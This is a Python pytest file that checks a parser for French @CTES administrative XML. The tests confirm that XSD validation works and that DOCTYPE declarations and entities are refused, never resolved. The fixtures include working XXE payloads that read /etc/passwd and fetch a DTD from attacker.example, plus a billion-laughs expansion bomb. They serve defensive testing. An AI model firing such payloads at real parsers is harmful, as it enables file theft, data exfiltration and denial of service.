"""XSD validation with a locked-down parser: DOCTYPE and entities are refused, never resolved."""

import importlib.resources

import pytest

from emegalis.actes import protocol as p

from .conftest import make_acte

NS = "http://www.interieur.gouv.fr/ACTES#v1.1-20040216"


def test_the_xsds_ship_inside_the_package():
    xsd = importlib.resources.files("emegalis.actes.protocol") / "xsd"
    names = {entry.name for entry in xsd.iterdir()}
    assert {"actesv1_1.xsd", "siret.xsd", "insee-commun.xsd"} <= names
    assert p.DEFAULT_SCHEMA_PATH.is_file()
    assert p.DEFAULT_SCHEMA_PATH.parent == p.XSD_DIR
    assert "shared" not in str(p.DEFAULT_SCHEMA_PATH)


def test_schema_can_be_given_per_call():
    xml = p.build_acte(make_acte())
    p.validate(xml, schema=p.DEFAULT_SCHEMA_PATH)
    p.validate(xml, schema=p.load_schema())
    with pytest.raises(FileNotFoundError):
        p.validate(xml, schema="/nowhere/actes.xsd")


def test_invalid_document_is_refused_with_every_error():
    xml = f"""<?xml version="1.0" encoding="ISO-8859-1"?>
<actes:Annulation xmlns:actes="{NS}" actes:IDActe="pas-un-identifiant"/>""".encode("latin-1")
    with pytest.raises(p.SchemaValidationError) as exc:
        p.validate(xml)
    assert exc.value.message.startswith("Le document XML n'est pas conforme au schéma @CTES")
    assert exc.value.errors and "ligne 2" in exc.value.errors[0]
    assert not p.is_valid(xml)


def test_unqualified_attributes_do_not_validate():
    xml = f"""<actes:Annulation xmlns:actes="{NS}" IDActe="034-000000000-20241209-D1-DE"/>"""
    with pytest.raises(p.SchemaValidationError):
        p.validate(xml.encode())


XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE actes:Annulation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<actes:Annulation xmlns:actes="http://www.interieur.gouv.fr/ACTES#v1.1-20040216"
  actes:IDActe="034-000000000-20241209-D1-DE">&xxe;</actes:Annulation>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<r/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<lolz>&lol2;</lolz>"""

DOCTYPE_ONLY = b"""<?xml version="1.0"?><!DOCTYPE html><html/>"""


@pytest.mark.parametrize("xml", [XXE_FILE, XXE_NETWORK, BILLION_LAUGHS, DOCTYPE_ONLY])
@pytest.mark.parametrize("reader", [p.validate, p.parse_message, p.parse_xml])
def test_doctype_and_entities_are_refused_not_resolved(xml, reader):
    with pytest.raises(p.XmlSecurityError) as exc:
        reader(xml)
    assert "DOCTYPE" in exc.value.message
    assert "refusé par sécurité" in exc.value.message
    assert "root:" not in exc.value.message


def test_utf16_documents_cannot_hide_a_doctype():
    with pytest.raises(p.MessageParseError, match="Encodage du document XML non pris en charge"):
        p.parse_xml(
            XXE_FILE.decode()
            .replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
            .encode("utf-16")
        )


def test_parser_configuration_never_resolves_entities():
    from emegalis.actes.protocol.validation import _parser

    parser = _parser()
    # lxml exposes no getters; a doc with an entity reference parsed by this parser keeps it
    # unresolved (checked here directly, bypassing the DOCTYPE pre-check).
    from lxml import etree

    root = etree.fromstring(XXE_FILE, parser=parser)
    assert "root:" not in etree.tostring(root, encoding="unicode")
